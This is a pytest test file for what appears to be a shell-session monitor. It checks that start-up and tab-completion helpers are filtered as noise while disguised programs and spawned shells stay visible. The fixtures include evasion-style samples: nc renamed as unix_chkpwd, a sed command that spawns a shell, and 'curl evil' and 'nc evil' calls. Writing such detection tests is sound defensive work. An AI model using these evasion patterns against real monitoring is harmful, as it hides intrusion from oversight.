"""What is hidden by default is a system's own start-up, and nothing that a person could pass off as that."""

import pytest
from made import Maker
from sessions import Watched, told

SHELL = 50


@pytest.fixture
def watched() -> Watched:
    return Watched()


@pytest.fixture
def maker(watched: Watched) -> Maker:
    """A login with its shell."""
    maker = Maker()
    watched.timelines.push(maker.login(7))
    watched.timelines.push(maker.command(7, ["-bash"], pid=SHELL))
    return maker


def seen(watched: Watched) -> list[str]:
    """The command lines that are not noise."""
    watched.timelines.flush()
    return [row[2] for row in told(watched.one("7"))[2:]]


def test_start_up_and_completion_are_noise(watched: Watched, maker: Maker) -> None:
    for pid, line in enumerate(
        (["id", "-u"], ["dircolors", "-b"], ["man", "-w"], ["unix_chkpwd", "alice"]), 60
    ):
        watched.timelines.push(maker.command(7, line, pid=pid, parent=SHELL))
    assert seen(watched) == []


def test_a_program_of_the_person_s_own_is_never_noise(watched: Watched, maker: Maker) -> None:
    for pid, name in enumerate(("unix_chkpwd", "utempter", "dircolors"), 60):
        event = maker.command(7, [name, "-b"], pid=pid, parent=SHELL)
        event["process"]["executable"] = f"/home/alice/{name}"
        watched.timelines.push(event)
    assert seen(watched) == ["unix_chkpwd -b", "utempter -b", "dircolors -b"]


def test_a_name_given_to_a_program_does_not_make_it_a_helper(watched: Watched, maker: Maker) -> None:
    event = maker.command(7, ["unix_chkpwd"], pid=60, parent=SHELL)
    event["process"]["executable"] = "/usr/bin/nc"
    watched.timelines.push(event)
    assert seen(watched) == ["unix_chkpwd"]


def test_what_noise_starts_is_noise_for_a_moment_and_a_shell_never_is(watched: Watched, maker: Maker) -> None:
    watched.timelines.push(maker.command(7, ["sed", "-n", "1e sh", "COMPREPLY"], pid=60, parent=SHELL))
    watched.timelines.push(maker.command(7, ["sort"], pid=61, parent=60))
    watched.timelines.push(maker.command(7, ["sh"], pid=62, parent=60))
    watched.timelines.push(maker.command(7, ["curl", "evil"], pid=63, parent=62))
    maker.ms += 60_000
    watched.timelines.push(maker.command(7, ["nc", "evil"], pid=64, parent=60))
    assert seen(watched) == ["sh", "curl evil", "nc evil"]


@pytest.mark.parametrize(
    "line",
    [
        "id -un", "dircolors -b", "lesspipe", "basename /usr/bin/lesspipe", "dirname /usr/bin/lesspipe", "mesg n",
        "tput setaf 1", "locale-check C.UTF-8", "locale", "/usr/bin/clear_console -q", "tty -s", "stty -ixon",
        "uname -s", "groups", "hostname -s", "readlink /proc/1/exe", "grep -q x /proc/y", "ls /etc/bash_completion.d",
        "/usr/bin/manpath -q", "flatpak --installations", "apt-cache --no-generate pkgnames", "getent passwd",
        "man -w ls", "compgen -A", "systemctl list-units --no-legend", "git for-each-ref", "git config --list",
        "docker ps --format {{.ID}}", "python -m argcomplete", "python3 -m argcomplete", "sed -ne s/COMPREPLY//",
        "_x --complete",
    ],
)  # fmt: skip
def test_what_shells_run_by_themselves(line: str, watched: Watched, maker: Maker) -> None:
    watched.timelines.push(maker.command(7, line.split(" "), pid=60, parent=SHELL))
    assert seen(watched) == []
